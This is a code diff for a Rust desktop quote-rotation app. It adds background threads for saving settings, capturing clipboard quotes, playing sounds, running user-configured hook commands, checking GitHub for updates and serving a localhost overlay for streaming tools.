-                        state.save();
-                        state.main_text_input.clear();
-                        state.sub_text_input.clear();
+/// One settings.json write by the `SettingsWriter`, standing for `saves`
+/// requested snapshots
+#[derive(Debug)]
+struct SaveOutcome {
+    saves: usize,
+    result: Result<u64, String>,
+}
+
+/// Writes settings.json on a background thread so serializing a large config
+/// never stalls a frame. A burst of saves collapses into one write of the
+/// newest snapshot; outcomes come back through `finished`.
+#[derive(Debug)]
+pub struct SettingsWriter {
+    snapshots: Option<std::sync::mpsc::Sender<AppConfig>>,
+    outcomes: std::sync::mpsc::Receiver<SaveOutcome>,
+    worker: Option<std::thread::JoinHandle<()>>,
+    // Snapshots sent that no outcome has covered yet
+    in_flight: std::cell::Cell<usize>,
+}
+
+impl SettingsWriter {
+    fn start() -> Self {
+        let (snapshots, queue) = std::sync::mpsc::channel::<AppConfig>();
+        let (done, outcomes) = std::sync::mpsc::channel();
+        let worker = std::thread::Builder::new()
+            .name("settings-writer".into())
+            .spawn(move || {
+                while let Ok(mut config) = queue.recv() {
+                    // Let the burst (a slider drag, typing) settle, keep the newest
+                    std::thread::sleep(SAVE_COALESCE);
+                    let mut saves = 1;
+                    for newer in queue.try_iter() {
+                        config = newer;
+                        saves += 1;
+                    }
+                    let result = config.save().map_err(|e| e.to_string());
+                    if let Err(err) = &result {
+                        log_to_file(err);
+                    }
+                    // Off the UI thread, and only for the snapshot that was written
+                    crash_report::remember(config);
+                    if done.send(SaveOutcome { saves, result }).is_err() {
+                        break;
                     }
                 }
-            });
+            })
+            .map_err(|e| log_to_file(&format!("Settings writer thread failed: {e}")))
+            .ok();
+        Self {
+            snapshots: Some(snapshots),
+            outcomes,
+            worker,
+            in_flight: std::cell::Cell::new(0),
+        }
+    }
 
-            ui.add_space(10.0);
+    /// Queue a snapshot; handed back (boxed, it's large) when there is no
+    /// writer thread
+    fn submit(&self, config: AppConfig) -> Result<(), Box<AppConfig>> {
+        let Some(snapshots) = self.snapshots.as_ref().filter(|_| self.worker.is_some()) else {
+            return Err(Box::new(config));
+        };
+        snapshots.send(config).map_err(|e| Box::new(e.0))?;
+        self.in_flight.set(self.in_flight.get() + 1);
+        Ok(())
+    }
 
-            // ===== Line Gaps Section =====
-            render_section(ui, "LINE GAPS", |ui| {
-                ui.horizontal(|ui| {
-                    label_with_glow(
-                        ui,
-                        "Main Text Gap",
-                        Color32::WHITE,
-                        10.5,
-                        Color32::from_black_alpha(140),
-                        egui::Align2::LEFT_CENTER,
-                    );
+    /// Whether a queued snapshot hasn't been written (or reported) yet
+    fn busy(&self) -> bool {
+        self.in_flight.get() > 0
+    }
 
-                    // Add flexible space to push the label to the right
-                    ui.with_layout(egui::Layout::right_to_left(egui::Align::Center), |ui| {
-                        label_with_glow(
-                            ui,
-                            &format!("{:.1}", state.text_style.main_line_gap),
-                            NEON_LIME,
-                            10.5,
-                            Color32::from_black_alpha(120),
-                            egui::Align2::RIGHT_CENTER,
-                        );
+    /// Writes completed since the last call
+    fn finished(&self) -> Vec<SaveOutcome> {
+        let outcomes: Vec<SaveOutcome> = self.outcomes.try_iter().collect();
+        let covered: usize = outcomes.iter().map(|o| o.saves).sum();
+        self.in_flight
+            .set(self.in_flight.get().saturating_sub(covered));
+        outcomes
+    }
+}
 
-                        // The slider takes the remaining width
-                        let slider_width = ui.available_width();
-                        if ui
-                            .add_sized(
-                                [slider_width, ui.available_height()],
-                                egui::Slider::new(&mut state.text_style.main_line_gap, 1.0..=3.0)
-                                    .step_by(0.1)
-                                    .text(""),
-                            )
-                            .changed()
-                        {
-                            state.save();
-                        }
-                    });
-                });
+impl Drop for SettingsWriter {
+    /// Give the last snapshot up to SAVE_FLUSH_TIMEOUT to reach the disk
+    fn drop(&mut self) {
+        use std::sync::mpsc::RecvTimeoutError;
+        self.snapshots = None;
+        let deadline = Instant::now() + SAVE_FLUSH_TIMEOUT;
+        loop {
+            match self
+                .outcomes
+                .recv_timeout(deadline.saturating_duration_since(Instant::now()))
+            {
+                Ok(_) => {}
+                Err(RecvTimeoutError::Disconnected) => {
+                    if let Some(worker) = self.worker.take() {
+                        let _ = worker.join();
+                    }
+                    break;
+                }
+                Err(RecvTimeoutError::Timeout) => {
+                    log_to_file("Settings write still running at exit");
+                    break;
+                }
+            }
+        }
+    }
+}
 
-                ui.horizontal(|ui| {
-                    label_with_glow(
-                        ui,
-                        "Supporting Text Gap",
-                        Color32::WHITE,
-                        10.5,
-                        Color32::from_black_alpha(140),
-                        egui::Align2::LEFT_CENTER,
-                    );
+/// Reads the system clipboard on a background thread and forwards new text
+/// that looks like a quote (see CLIPBOARD_CAPTURE_CHARS)
+#[derive(Debug)]
+pub struct ClipboardWatcher {
+    texts: std::sync::mpsc::Receiver<String>,
+    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
+    pub started: Instant,
+}
 
-                    ui.with_layout(egui::Layout::right_to_left(egui::Align::Center), |ui| {
-                        label_with_glow(
-                            ui,
-                            &format!("{:.1}", state.text_style.sub_line_gap),
-                            NEON_LIME,
-                            10.5,
-                            Color32::from_black_alpha(120),
-                            egui::Align2::RIGHT_CENTER,
-                        );
-                        let slider_width = ui.available_width();
-                        if ui
-                            .add_sized(
-                                [slider_width, ui.available_height()],
-                                egui::Slider::new(&mut state.text_style.sub_line_gap, 1.0..=3.0)
-                                    .step_by(0.1)
-                                    .text(""),
-                            )
-                            .changed()
-                        {
-                            state.save();
-                        }
-                    });
-                });
+impl ClipboardWatcher {
+    fn start() -> Option<Self> {
+        use std::sync::atomic::Ordering;
+        let mut clipboard = arboard::Clipboard::new().ok()?;
+        let (tx, texts) = std::sync::mpsc::channel();
+        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+        let thread_stop = stop.clone();
+        std::thread::Builder::new()
+            .name("clipboard-capture".into())
+            .spawn(move || {
+                // Whatever was copied before capture started isn't offered
+                let mut last = clipboard.get_text().ok();
+                while !thread_stop.load(Ordering::Relaxed) {
+                    std::thread::sleep(CLIPBOARD_POLL_INTERVAL);
+                    let Ok(text) = clipboard.get_text() else {
+                        continue;
+                    };
+                    if last.as_ref() == Some(&text) {
+                        continue;
+                    }
+                    last = Some(text.clone());
+                    // Short strings are skipped outright: likely passwords or codes
+                    let text = text.trim();
+                    if CLIPBOARD_CAPTURE_CHARS.contains(&text.chars().count())
+                        && tx.send(text.to_string()).is_err()
+                    {
+                        break;
+                    }
+                }
+            })
+            .ok()?;
+        Some(Self {
+            texts,
+            stop,
+            started: Instant::now(),
+        })
+    }
 
-                ui.horizontal(|ui| {
-                    label_with_glow(
-                        ui,
-                        "Gap Between Texts",
-                        Color32::WHITE,
-                        10.5,
-                        Color32::from_black_alpha(140),
-                        egui::Align2::LEFT_CENTER,
-                    );
+    /// Most recent capture since the last call, if any
+    fn latest(&self) -> Option<String> {
+        self.texts.try_iter().last()
+    }
+}
 
-                    ui.with_layout(egui::Layout::right_to_left(egui::Align::Center), |ui| {
-                        label_with_glow(
-                            ui,
-                            &format!("{:.0} px", state.text_style.between_gap),
-                            NEON_LIME,
-                            10.5,
-                            Color32::from_black_alpha(120),
-                            egui::Align2::RIGHT_CENTER,
-                        );
-                        let slider_width = ui.available_width();
-                        if ui
-                            .add_sized(
-                                [slider_width, ui.available_height()],
-                                egui::Slider::new(&mut state.text_style.between_gap, 0.0..=50.0)
-                                    .step_by(1.0)
-                                    .text(""),
-                            )
-                            .changed()
-                        {
-                            state.save();
-                        }
-                    });
-                });
-            });
+impl Drop for ClipboardWatcher {
+    fn drop(&mut self) {
+        self.stop.store(true, std::sync::atomic::Ordering::Relaxed);
+    }
+}
 
-            ui.add_space(10.0);
+/// Feedback sounds, embedded in the binary
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Sound {
+    Rotate,
+    Complete,
+}
 
-            // ===== Interval Section =====
-            render_section(ui, "INTERVAL (SECONDS)", |ui| {
-                ui.horizontal(|ui| {
-                    let frame_response = egui::Frame::none()
-                        .fill(Color32::from_black_alpha(80))
-                        .stroke(Stroke::new(1.0, NEON_CYAN.gamma_multiply(0.4)))
-                        .rounding(Rounding::same(4.0))
-                        .show(ui, |ui| ui.add(egui::DragValue::new(&mut state.interval_secs).range(1..=60)));
-                    let interval_resp = frame_response.inner;
-                    if interval_resp.changed() {
-                        // Clamp logic
-                        state.interval_secs = state.interval_secs.clamp(1, 60);
-                    }
-                    if interval_resp.lost_focus() && ui.input(|i| i.key_pressed(egui::Key::Enter)) {
-                        state.rotation_interval = Duration::from_secs(state.interval_secs);
-                        state.last_rotation = Instant::now(); // Restart
-                        state.save();
+impl Sound {
+    fn bytes(self) -> &'static [u8] {
+        match self {
+            Sound::Rotate => include_bytes!("../assets/sounds/chime.ogg"),
+            Sound::Complete => include_bytes!("../assets/sounds/complete.ogg"),
+        }
+    }
+}
+
+/// Plays `Sound`s on a thread that owns the output device, so opening it and
+/// decoding never happen on the render thread. Dropping it ends the thread.
+#[derive(Debug)]
+pub struct AudioPlayer {
+    requests: std::sync::mpsc::Sender<(Sound, f32)>,
+}
+
+impl AudioPlayer {
+    fn start() -> Option<Self> {
+        use rodio::Source;
+        let (requests, queue) = std::sync::mpsc::channel::<(Sound, f32)>();
+        std::thread::Builder::new()
+            .name("audio".into())
+            .spawn(move || {
+                // The stream isn't Send; it lives as long as this thread
+                let (_stream, handle) = match rodio::OutputStream::try_default() {
+                    Ok(output) => output,
+                    Err(e) => {
+                        log_to_file(&format!("No audio output: {}", e));
+                        return;
                     }
+                };
+                for (sound, volume) in queue {
+                    match rodio::Decoder::new(std::io::Cursor::new(sound.bytes())) {
+                        Ok(source) => {
+                            let _ = handle.play_raw(source.convert_samples().amplify(volume));
+                        }
+                        Err(e) => {
+                            log_to_file(&format!("Failed to decode {:?} sound: {}", sound, e))
+                        }
+                    }
+                }
+            })
+            .ok()?;
+        Some(Self { requests })
+    }
 
-                    label_with_glow(
-                        ui,
-                        "seconds",
-                        Color32::from_rgb(140, 200, 255),
-                        10.5,
-                        Color32::from_black_alpha(120),
-                        egui::Align2::LEFT_CENTER,
-                    );
-                });
+    fn play(&self, sound: Sound, volume: f32) {
+        let _ = self.requests.send((sound, volume));
+    }
+}
 
-                ui.add_space(8.0);
+/// What a scripting hook is run for, passed to it as DM_EVENT
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum HookEvent {
+    Rotate,
+    SessionComplete,
+}
 
-                if draw_text_button(
-                    ui,
-                    "Set Interval",
-                    Color32::from_rgb(33, 150, 243),
-                    ui.available_width() - 8.0,
-                    28.0,
-                )
-                .clicked()
-                {
-                    let clamped = state.interval_secs.clamp(1, 60);
-                    state.interval_secs = clamped;
-                    state.rotation_interval = Duration::from_secs(clamped);
-                    state.last_rotation = Instant::now(); // RESTART TIMER
-                    state.save();
-                    ui.ctx().request_repaint();
-                }
+impl HookEvent {
+    fn name(self) -> &'static str {
+        match self {
+            HookEvent::Rotate => "rotate",
+            HookEvent::SessionComplete => "session_complete",
+        }
+    }
+}
 
-                ui.add_space(8.0);
+/// One hook run: the command line and the quote it's run for
+#[derive(Debug)]
+struct HookJob {
+    command: String,
+    event: HookEvent,
+    main_text: String,
+    sub_text: String,
+    // Position in the collection, counting from 1
+    index: usize,
+}
 
-                // Toggle rotation
-                let (toggle_text, toggle_color) = if state.rotation_enabled {
-                    ("⏸ Pause Rotation", Color32::from_rgb(255, 152, 0))
-                } else {
-                    ("▶ Resume Rotation", Color32::from_rgb(76, 175, 80))
-                };
+/// A hook command that couldn't start, exited with an error or timed out
+#[derive(Debug)]
+struct HookFailure {
+    command: String,
+    message: String,
+}
 
-                if draw_text_button(
-                    ui,
-                    toggle_text,
-                    toggle_color,
-                    ui.available_width() - 8.0,
-                    28.0,
-                )
-                .clicked()
-                {
-                    state.rotation_enabled = !state.rotation_enabled;
-                    if state.rotation_enabled {
-                        state.last_rotation = Instant::now();
+/// Runs hook commands one at a time on a background thread so a slow script
+/// never stalls a frame. What they print goes to debug.log; failures come
+/// back through `failures`. At most HOOK_QUEUE_LIMIT runs wait; dropping it
+/// ends the thread after the queue.
+#[derive(Debug)]
+pub struct HookRunner {
+    jobs: std::sync::mpsc::SyncSender<HookJob>,
+    failures: std::sync::mpsc::Receiver<HookFailure>,
+}
+
+impl HookRunner {
+    fn start() -> Option<Self> {
+        let (jobs, queue) = std::sync::mpsc::sync_channel::<HookJob>(HOOK_QUEUE_LIMIT);
+        let (report, failures) = std::sync::mpsc::channel();
+        std::thread::Builder::new()
+            .name("hooks".into())
+            .spawn(move || {
+                for job in queue {
+                    if let Err(message) = run_hook_command(&job) {
+                        log_to_file(&format!(
+                            "[hook {}] `{}` {}",
+                            job.event.name(),
+                            job.command,
+                            message
+                        ));
+                        let failure = HookFailure {
+                            command: job.command,
+                            message,
+                        };
+                        if report.send(failure).is_err() {
+                            break;
+                        }
                     }
                 }
-            });
+            })
+            .ok()?;
+        Some(Self { jobs, failures })
+    }
 
-            ui.add_space(10.0);
+    /// Queue a run, or drop it when the queue is full (rapid NEXT clicks
+    /// behind a slow command)
+    fn run(&self, job: HookJob) {
+        if let Err(std::sync::mpsc::TrySendError::Full(job)) = self.jobs.try_send(job) {
+            log_to_file(&format!(
+                "[hook {}] `{}` skipped, {} runs already waiting",
+                job.event.name(),
+                job.command,
+                HOOK_QUEUE_LIMIT
+            ));
+        }
+    }
 
-            // ===== Quotes List Section =====
-            render_section(ui, &format!("TEXT LIST ({})", state.quotes.len()), |ui| {
-                let mut to_delete: Option<usize> = None;
-                let mut to_select: Option<usize> = None;
-
-                for (idx, quote) in state.quotes.iter().enumerate() {
-                    let is_current = idx == state.current_quote_index;
-                    let bg_color = if is_current {
-                        Color32::from_black_alpha(35)
-                    } else {
-                        Color32::from_black_alpha(20)
-                    };
+    /// Failures reported since the last call
+    fn failures(&self) -> Vec<HookFailure> {
+        self.failures.try_iter().collect()
+    }
+}
 
-                    egui::Frame::none()
-                        .fill(bg_color)
-                        .inner_margin(Vec2::new(8.0, 6.0))
-                        .rounding(Rounding::same(4.0))
-                        .stroke(Stroke::new(1.0, NEON_CYAN.gamma_multiply(0.18)))
-                        .show(ui, |ui| {
-                            // Let the text flexibly fill space
-                            // Delete button goes on the very right
-                            ui.with_layout(
-                                egui::Layout::right_to_left(egui::Align::Center),
-                                |ui| {
-                                    // Delete button
-                                    let del_btn = ui.add(
-                                        egui::Button::new(
-                                            RichText::new("Delete").color(Color32::WHITE).size(10.0),
-                                        )
-                                        .fill(Color32::from_rgb(255, 70, 70))
-                                        .min_size(Vec2::new(40.0, 18.0)),
-                                    );
-                                    if del_btn.clicked() {
-                                        to_delete = Some(idx);
-                                    }
+/// Run one hook through the shell with the DM_* variables set, killing it
+/// after HOOK_TIMEOUT and logging its output. Err says why it failed.
+fn run_hook_command(job: &HookJob) -> Result<(), String> {
+    use std::process::{Command, Stdio};
+    #[cfg(windows)]
+    let mut command = {
+        use std::os::windows::process::CommandExt;
+        // CREATE_NO_WINDOW: no console flashing up on every rotation. The
+        // line goes to cmd untouched so its own quoting rules apply
+        let mut command = Command::new("cmd");
+        command
+            .arg("/C")
+            .raw_arg(&job.command)
+            .creation_flags(0x0800_0000);
+        command
+    };
+    #[cfg(not(windows))]
+    let mut command = {
+        let mut command = Command::new("sh");
+        command.arg("-c").arg(&job.command);
+        command
+    };
+    let mut child = command
+        .env("DM_MAIN_TEXT", &job.main_text)
+        .env("DM_SUB_TEXT", &job.sub_text)
+        .env("DM_INDEX", job.index.to_string())
+        .env("DM_EVENT", job.event.name())
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .map_err(|e| format!("couldn't start: {}", e))?;
+
+    let deadline = Instant::now() + HOOK_TIMEOUT;
+    let outputs = [
+        ("stdout", drain_pipe(child.stdout.take())),
+        ("stderr", drain_pipe(child.stderr.take())),
+    ];
+    let status = loop {
+        match child.try_wait() {
+            Ok(Some(status)) => break Ok(status),
+            Ok(None) if Instant::now() >= deadline => {
+                let _ = child.kill();
+                let _ = child.wait();
+                break Err(format!("timed out after {}s", HOOK_TIMEOUT.as_secs()));
+            }
+            Ok(None) => std::thread::sleep(HOOK_POLL_INTERVAL),
+            Err(e) => break Err(format!("couldn't be waited on: {}", e)),
+        }
+    };
+    // Something the command left running in the background can hold its
+    // pipes open, so output is only waited for until the deadline
+    for (stream, output) in outputs {
+        let wait = deadline.saturating_duration_since(Instant::now());
+        let text = output.recv_timeout(wait).unwrap_or_default();
+        for line in text.lines().filter(|line| !line.trim().is_empty()) {
+            log_to_file(&format!("[hook {}] {}: {}", job.event.name(), stream, line));
+        }
+    }
+    match status? {
+        status if status.success() => Ok(()),
+        status => Err(format!("failed ({})", status)),
+    }
+}
 
-                                    // Text Area takes remaining space
-                                    ui.with_layout(
-                                        egui::Layout::left_to_right(egui::Align::Min),
-                                        |ui| {
-                                            ui.vertical(|ui| {
-                                                // Line 1: N. [main quote text]
-                                                let display_main =
-                                                    format!("{}. {}", idx + 1, &quote.main_text);
-                                                let clicked_main;
-                                                if contains_bengali(&quote.main_text) {
-                                                    if let Some((
-                                                        ref mut fs,
-                                                        ref mut sc,
-                                                        ref mut tc,
-                                                    )) = shaper
-                                                    {
-                                                        if let Some((tex_id, size)) =
-                                                            render_shaped_text(
-                                                                ui.ctx(),
-                                                                fs,
-                                                                sc,
-                                                                &display_main,
-                                                                10.0,
-                                                                Color32::WHITE,
-                                                                tc,
-                                                            )
-                                                        {
-                                                            let resp = ui.add(
-                                                                egui::Image::new(
-                                                                    egui::load::SizedTexture::new(
-                                                                        tex_id, size,
-                                                                    ),
-                                                                )
-                                                                .sense(egui::Sense::click()),
-                                                            );
-                                                            clicked_main = resp.clicked();
-                                                        } else {
-                                                            let resp = ui.label(
-                                                                RichText::new(&display_main)
-                                                                    .color(Color32::WHITE)
-                                                                    .size(10.0),
-                                                            );
-                                                            clicked_main = resp.clicked();
-                                                        }
-                                                    } else {
-                                                        let resp = ui.label(
-                                                            RichText::new(&display_main)
-                                                                .color(Color32::WHITE)
-                                                                .size(10.0),
-                                                        );
-                                                        clicked_main = resp.clicked();
-                                                    }
-                                                } else {
-                                                    let resp = ui.label(
-                                                        RichText::new(&display_main)
-                                                            .color(Color32::WHITE)
-                                                            .size(10.0),
-                                                    );
-                                                    clicked_main = resp.clicked();
-                                                }
+/// Read a child's pipe to the end on its own thread, so a chatty command
+/// can't stall on a full buffer while it's being waited on
+fn drain_pipe<R: std::io::Read + Send + 'static>(
+    pipe: Option<R>,
+) -> std::sync::mpsc::Receiver<String> {
+    let (tx, rx) = std::sync::mpsc::channel();
+    std::thread::spawn(move || {
+        let mut text = String::new();
+        if let Some(mut pipe) = pipe {
+            let mut bytes = Vec::new();
+            let _ = pipe.read_to_end(&mut bytes);
+            text = String::from_utf8_lossy(&bytes).into_owned();
+        }
+        let _ = tx.send(text);
+    });
+    rx
+}
 
-                                                // Line 2: 💬 [supporting text]
-                                                let display_sub = format!("💬 {}", &quote.sub_text);
-                                                if contains_bengali(&quote.sub_text) {
-                                                    if let Some((
-                                                        ref mut fs,
-                                                        ref mut sc,
-                                                        ref mut tc,
-                                                    )) = shaper
-                                                    {
-                                                        if let Some((tex_id, size)) =
-                                                            render_shaped_text(
-                                                                ui.ctx(),
-                                                                fs,
-                                                                sc,
-                                                                &display_sub,
-                                                                9.5,
-                                                                NEON_CYAN.gamma_multiply(0.75),
-                                                                tc,
-                                                            )
-                                                        {
-                                                            ui.add(egui::Image::new(
-                                                                egui::load::SizedTexture::new(
-                                                                    tex_id, size,
-                                                                ),
-                                                            ));
-                                                        } else {
-                                                            ui.label(
-                                                                RichText::new(&display_sub)
-                                                                    .color(NEON_CYAN.gamma_multiply(0.75))
-                                                                    .size(9.5),
-                                                            );
-                                                        }
-                                                    } else {
-                                                        ui.label(
-                                                            RichText::new(&display_sub)
-                                                                .color(NEON_CYAN.gamma_multiply(0.75))
-                                                                .size(9.5),
-                                                        );
-                                                    }
-                                                } else {
-                                                    ui.label(
-                                                        RichText::new(&display_sub)
-                                                            .color(NEON_CYAN.gamma_multiply(0.75))
-                                                            .size(9.5),
-                                                    );
-                                                }
+/// A published release newer than this build, as reported by GitHub
+#[derive(Debug, Clone)]
+pub struct ReleaseInfo {
+    pub version: String,
+    pub url: String,
+}
 
-                                                if clicked_main {
-                                                    to_select = Some(idx);
-                                                }
-                                            });
-                                        },
-                                    );
-                                },
-                            );
-                        });
+/// The part of GitHub's release JSON the update check reads
+#[derive(Debug, Deserialize)]
+struct GithubRelease {
+    tag_name: String,
+    html_url: String,
+}
 
-                    ui.add_space(4.0);
-                }
+/// Ask GitHub for the latest release on a background thread; the receiver
+/// gets one answer, or nothing if the thread couldn't start
+fn start_update_check() -> std::sync::mpsc::Receiver<Result<ReleaseInfo, String>> {
+    let (tx, rx) = std::sync::mpsc::channel();
+    let spawned = std::thread::Builder::new()
+        .name("update-check".into())
+        .spawn(move || {
+            let _ = tx.send(fetch_latest_release());
+        });
+    if let Err(e) = spawned {
+        log_to_file(&format!("Update check couldn't start: {}", e));
+    }
+    rx
+}
 
-                // Apply changes after iteration
-                if let Some(idx) = to_delete {
-                    state.delete_quote(idx);
-                    state.save();
-                }
-                if let Some(idx) = to_select {
-                    state.current_quote_index = idx;
-                    state.last_rotation = Instant::now();
-                }
-            });
+fn fetch_latest_release() -> Result<ReleaseInfo, String> {
+    let agent = ureq::AgentBuilder::new()
+        .timeout(UPDATE_CHECK_TIMEOUT)
+        .user_agent(concat!("daily-motivation/", env!("CARGO_PKG_VERSION")))
+        .build();
+    let release: GithubRelease = agent
+        .get(UPDATE_RELEASES_URL)
+        .set("Accept", "application/vnd.github+json")
+        .call()
+        .map_err(|e| e.to_string())?
+        .into_json()
+        .map_err(|e| e.to_string())?;
+    Ok(ReleaseInfo {
+        version: release.tag_name.trim_start_matches(['v', 'V']).to_string(),
+        url: release.html_url,
+    })
+}
 
-            ui.add_space(10.0);
+/// Whether release `latest` is newer than `current`, comparing the dotted
+/// numbers ("1.10.0" > "1.9.2"); pre-release suffixes are ignored
+fn is_newer_version(latest: &str, current: &str) -> bool {
+    fn parts(version: &str) -> Vec<u64> {
+        version
+            .trim_start_matches(['v', 'V'])
+            .split(['-', '+'])
+            .next()
+            .unwrap_or_default()
+            .split('.')
+            .map(|part| part.parse().unwrap_or(0))
+            .collect()
+    }
+    let (mut latest, mut current) = (parts(latest), parts(current));
+    let len = latest.len().max(current.len());
+    latest.resize(len, 0);
+    current.resize(len, 0);
+    latest > current
+}
 
-            // ===== Clear All Section =====
-            if !state.confirm_clear_pending {
-                if draw_text_button(
-                    ui,
-                    "Clear All",
-                    Color32::from_rgb(255, 152, 0), // Orange per HTML
-                    ui.available_width(),
-                    28.0,
-                )
-                .clicked()
-                {
-                    state.confirm_clear_pending = true;
-                }
-            } else {
-                ui.horizontal(|ui| {
-                    label_with_glow(
-                        ui,
-                        "Are you sure?",
-                        Color32::WHITE,
-                        11.0,
-                        Color32::from_black_alpha(140),
-                        egui::Align2::LEFT_CENTER,
-                    );
-                    if ui
-                        .button(RichText::new("Yes, Clear").color(Color32::WHITE).size(10.5))
-                        .clicked()
-                    {
-                        state.quotes.clear();
-                        state.current_quote_index = 0;
-                        state.confirm_clear_pending = false;
-                        state.save();
+/// What the stream overlay serves: the quote on screen and the colors and
+/// sizes it's drawn with
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct CurrentQuoteSnapshot {
+    pub main: String,
+    pub sub: String,
+    // Position in the collection, counting from 1 (0 = no quotes)
+    pub index: usize,
+    pub main_color: Color32,
+    pub sub_color: Color32,
+    pub main_size: f32,
+    pub sub_size: f32,
+}
+
+/// Local HTTP server for OBS and other streaming tools: `/current.json`
+/// and `/current.html` on 127.0.0.1 only. It runs on its own thread,
+/// reading `snapshot`; dropping it stops the server and waits for the thread.
+pub struct OverlayServer {
+    pub port: u16,
+    snapshot: std::sync::Arc<std::sync::RwLock<CurrentQuoteSnapshot>>,
+    server: std::sync::Arc<tiny_http::Server>,
+    thread: Option<std::thread::JoinHandle<()>>,
+}
+
+impl OverlayServer {
+    fn start(port: u16, snapshot: CurrentQuoteSnapshot) -> Result<Self, String> {
+        let server = tiny_http::Server::http(("127.0.0.1", port)).map_err(|e| e.to_string())?;
+        let server = std::sync::Arc::new(server);
+        let snapshot = std::sync::Arc::new(std::sync::RwLock::new(snapshot));
+        let thread = {
+            let server = server.clone();
+            let snapshot = snapshot.clone();
+            std::thread::Builder::new()
+                .name("overlay".into())
+                .spawn(move || {
+                    // Ends once `unblock` is called from Drop
+                    for request in server.incoming_requests() {
+                        let current = snapshot.read().map(|s| s.clone()).unwrap_or_default();
+                        let _ = request_overlay(request, &current);
                     }
-                    if ui
-                        .button(
-                            RichText::new("Cancel")
-                                .color(Color32::from_rgba_unmultiplied(190, 190, 215, 255))
-                                .size(10.5),
-                        )
-                        .clicked()
-                    {
-                        state.confirm_clear_pending = false;
-                    }
-                });
-            }
-
-            ui.add_space(10.0);
+                })
+                .map_err(|e| e.to_string())?
+        };
+        log_to_file(&format!("Overlay server listening on 127.0.0.1:{port}"));
+        Ok(Self {
+            port,
+            snapshot,
+            server,
+            thread: Some(thread),
+        })
+    }
 
-            // ===== Info Section =====
-            egui::Frame::none()
-                .fill(Color32::from_black_alpha(26))
-                .stroke(egui::Stroke::new(1.0, NEON_CYAN.gamma_multiply(0.22)))
-                .inner_margin(Vec2::new(10.0, 10.0))
-                .rounding(Rounding::same(4.0))
-                .show(ui, |ui| {
-                    let info_color = Color32::from_rgba_unmultiplied(190, 190, 215, 255);
-                    let shadow = Color32::from_black_alpha(130);
-                    label_with_glow(
-                        ui,
-                        &format!("Current Interval: {}s", state.rotation_interval.as_secs()),
-                        info_color,
-                        10.5,
-                        shadow,
-                        egui::Align2::LEFT_CENTER,
-                    );
-                    label_with_glow(
-                        ui,
-                        &format!("Total Quotes: {}", state.quotes.len()),
-                        info_color,
-                        10.5,
-                        shadow,
-                        egui::Align2::LEFT_CENTER,
-                    );
-                    label_with_glow(
-                        ui,
-                        &format!(
-                            "Rotation: {}",
-                            if state.rotation_enabled {
-                                "Active"
-                            } else {
-                                "Paused"
-                            }
-                        ),
-                        info_color,
-                        10.5,
-                        shadow,
-                        egui::Align2::LEFT_CENTER,
-                    );
-                });
-        });
+    /// Hand the server a new quote; no-op when nothing changed
+    fn publish(&self, current: CurrentQuoteSnapshot) {
+        if self.snapshot.read().is_ok_and(|s| *s == current) {
+            return;
+        }
+        if let Ok(mut snapshot) = self.snapshot.write() {
+            *snapshot = current;
+        }
+    }
 }
 
-/// Render a section with title
-fn render_section(ui: &mut egui::Ui, title: &str, add_contents: impl FnOnce(&mut egui::Ui)) {
-    // Outer frame with relative darkening and faint cyan glow
-    egui::Frame::none()
-        .fill(Color32::from_black_alpha(20))
-        .stroke(Stroke::new(1.0, NEON_CYAN.gamma_multiply(0.25)))
-        .inner_margin(egui::Margin::same(1.0))
-        .rounding(Rounding::same(10.0))
-        .show(ui, |ui| {
-            // Inner subtle depth
-            egui::Frame::none()
-                .fill(Color32::from_black_alpha(13))
-                .stroke(Stroke::new(0.5, Color32::from_white_alpha(12)))
-                .inner_margin(egui::Margin {
-                    left: 12.0,
-                    right: 12.0,
-                    top: 10.0,
-                    bottom: 12.0,
-                })
-                .rounding(Rounding::same(9.0))
-                .show(ui, |ui| {
-                    // Section title row with decorative line
-                    ui.horizontal(|ui| {
-                        // Left accent mark
-                        let (mark_rect, _) =
-                            ui.allocate_exact_size(Vec2::new(3.0, 12.0), Sense::hover());
-                        ui.painter()
-                            .rect_filled(mark_rect, Rounding::same(2.0), NEON_LIME);
-
-                        ui.add_space(2.0);
+// tiny_http's Server has no Debug of its own
+impl std::fmt::Debug for OverlayServer {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("OverlayServer")
+            .field("port", &self.port)
+            .finish_non_exhaustive()
+    }
+}
 
-                        label_with_glow(
-                            ui,
-                            title,
-                            NEON_LIME,
-                            10.0,
-                            NEON_LIME.gamma_multiply(0.4),
-                            egui::Align2::LEFT_CENTER,
-                        );
+impl Drop for OverlayServer {
+    fn drop(&mut self) {
+        self.server.unblock();
+        if let Some(thread) = self.thread.take() {
+            let _ = thread.join();
+        }
+        log_to_file("Overlay server stopped");
+    }
+}
 
-                        // Trailing separator line (subtle horizontal)
-                        let avail = ui.available_width();
-                        if avail > 4.0 {
-                            let (line_rect, _) =
-                                ui.allocate_exact_size(Vec2::new(avail - 2.0, 1.0), Sense::hover());
-                            let mid_y = line_rect.center().y;
-                            ui.painter().line_segment(
-                                [
-                                    egui::pos2(line_rect.left(), mid_y),
-                                    egui::pos2(line_rect.right(), mid_y),
-                                ],
-                                Stroke::new(0.5, NEON_LIME.gamma_multiply(0.17)),
-                            );
-                        }
-                    });
+/// Answer one overlay request
+fn request_overlay(
+    request: tiny_http::Request,
+    current: &CurrentQuoteSnapshot,
+) -> std::io::Result<()> {
+    let (body, content_type) = match request.url().split('?').next().unwrap_or_default() {
+        "/current.json" => (
+            serde_json::json!({
+                "main": current.main,
+                "sub": current.sub,
+                "index": current.index,
+            })
+            .to_string(),
+            "application/json; charset=utf-8",
+        ),
+        "/" | "/current.html" => (overlay_page(current), "text/html; charset=utf-8"),
+        _ => {
+            let not_found = tiny_http::Response::from_string("Not found").with_status_code(404);
+            return request.respond(not_found);
+        }
+    };
+    let mut response = tiny_http::Response::from_string(body);
+    for (name, value) in [
+        ("Content-Type", content_type),
+        ("Cache-Control", "no-store"),
+    ] {
+        if let Ok(header) = tiny_http::Header::from_bytes(name, value) {
+            response.add_header(header);
+        }
+    }
+    request.respond(response)
+}
 
-                    ui.add_space(8.0);
-                    add_contents(ui);
